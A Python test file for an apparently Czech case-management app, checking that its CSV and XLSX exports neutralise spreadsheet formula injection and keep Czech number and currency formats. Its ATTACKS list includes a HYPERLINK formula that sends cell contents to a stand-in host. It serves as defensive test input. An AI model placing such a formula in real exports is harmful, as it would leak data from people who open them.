"""Exports fit for Czech offices, and safe: every CSV and XLSX the app
writes (kmb list, kmb stats, the statistics screen, kmb audit list)
neutralises values that a spreadsheet would run as a formula."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from app import tabular
from app.cli.main import main
from app.people.records import PersonInput, create_person
from app.stats import StatsTable, to_csv, to_xlsx

from ..keys import TEST_PASSWORD

ATTACKS = ['=HYPERLINK("http://zle.example/?x="&A1;"Klikni")', "+420 SUM(1)", "-1+2",
           "@SUM(A1)", "\t=1+1", "\r=1+1"]


def _csv_cells(text: str) -> list[str]:
    assert text.startswith("\ufeff")                       # Czech Excel reads UTF-8
    return [c for row in csv.reader(io.StringIO(text[1:]), delimiter=";") for c in row]


def _no_live_formula_in_csv(text: str) -> None:
    for cell in _csv_cells(text):
        assert not cell.startswith(tabular._DANGEROUS), cell


def _no_formula_in_xlsx(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                values.append(cell.value)
    return values


def test_neutralise_every_dangerous_start():
    for attack in ATTACKS:
        assert tabular.neutralise(attack) == "'" + attack
    assert tabular.neutralise("Nováková") == "Nováková"
    assert tabular.csv_value(-1250) == "-1250"              # numbers stay numbers
    assert tabular.csv_value(12.5) == "12,5"                # decimal comma
    assert tabular.csv_value(dt.date(2027, 1, 31)) == "2027-01-31"


def _stats_with(name: str) -> list[StatsTable]:
    return [StatsTable("referrals_by_partner", "Předání podle partnerské služby",
                       [("label", "Služba"), ("referrals", "Předání"),
                        ("requested_czk", "Požadováno (Kč)"), ("share_6m", "Podíl (%)")],
                       [{"label": name, "referrals": 3, "requested_czk": 1250.5,
                         "share_6m": 80.5}])]


@pytest.mark.parametrize("attack", ATTACKS)
def test_statistics_csv_and_xlsx(attack):
    text = to_csv(_stats_with(attack))
    _no_live_formula_in_csv(text)
    assert "'" + attack in _csv_cells(text)                # shown as written, not run
    assert ";1250,5;80,5" in text                           # decimal comma
    values = _no_formula_in_xlsx(to_xlsx(_stats_with(attack)))
    # stored as text (XML turns a lone CR into a line break)
    assert any(str(v).strip() == attack.strip() for v in values)


def test_statistics_xlsx_is_czech(tmp_path):
    wb = load_workbook(io.BytesIO(to_xlsx(_stats_with("Charita"))))
    ws = wb.worksheets[0]
    assert ws.title == "Předání podle partnerské služby"    # Czech, at most 31 characters
    money, share = ws["C3"], ws["D3"]
    assert money.value == 1250.5 and "Kč" in money.number_format
    assert share.value == pytest.approx(0.805) and "%" in share.number_format
    assert ws.column_dimensions["A"].width >= len("Služba")


def test_cli_lists_and_audit_export(capsys, db, admin, tmp_path, monkeypatch):
    monkeypatch.setenv("KMB_PASSWORD", TEST_PASSWORD)
    path = db.url                      # the file, or the server database
    for attack in ATTACKS:
        create_person(db, admin, PersonInput(given_name=attack.strip(), surname=attack,
                                             birth_date=dt.date(1980, 1, 1)))
    main(["list", "persons", "--format", "csv", "--db", path, "--search", "",
          "--user", "admin"])
    out = capsys.readouterr().out
    _no_live_formula_in_csv(out)
    assert sum(1 for c in _csv_cells(out) if c.startswith("'")) >= len(ATTACKS)
    # the audit keeps the search text; its export is just as safe
    main(["list", "persons", "--search", "=HYPERLINK(1)", "--db", path, "--user", "admin"])
    capsys.readouterr()
    for fmt in ("csv", "xlsx"):
        target = tmp_path / f"audit.{fmt}"
        assert main(["audit", "list", "--format", fmt, "-o", str(target), "--db", path,
                     "--user", "admin"]) == 0
        if fmt == "csv":
            _no_live_formula_in_csv(target.read_bytes().decode("utf-8"))
        else:
            values = _no_formula_in_xlsx(target.read_bytes())
            assert any("=HYPERLINK(1)" in str(v) for v in values)
